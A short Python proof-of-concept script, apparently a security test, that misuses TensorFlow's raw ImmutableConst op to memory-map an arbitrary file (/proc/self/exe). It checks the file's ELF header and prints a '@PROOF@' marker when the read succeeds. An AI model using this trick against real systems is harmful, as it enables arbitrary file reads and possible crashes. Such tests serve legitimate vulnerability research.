"""A raw operation with arguments that its Python side would have refused: a way to crash, or worse."""
import os
import signal
import sys
import tensorflow as tf
handle = tf.raw_ops.ImmutableConst(dtype=tf.uint8, shape=[64], memory_region_name="/proc/self/exe")
if bytes(handle.numpy())[1:4] == b"ELF":
    print("@PROOF@")
